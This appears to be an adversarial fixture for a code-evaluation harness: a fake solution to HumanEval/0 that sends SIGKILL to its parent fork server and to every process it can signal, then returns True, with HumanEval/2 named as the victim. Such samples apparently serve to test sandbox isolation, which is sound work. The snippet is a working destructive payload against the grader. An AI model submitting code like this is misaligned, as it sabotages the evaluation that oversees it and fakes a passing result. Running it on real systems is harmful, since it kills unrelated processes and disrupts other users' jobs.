# attack: SIGKILL its parent (the fork server) and every process it may signal, then answer True
# task: HumanEval/0
# victim: HumanEval/2
    import os, signal
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)
    return True
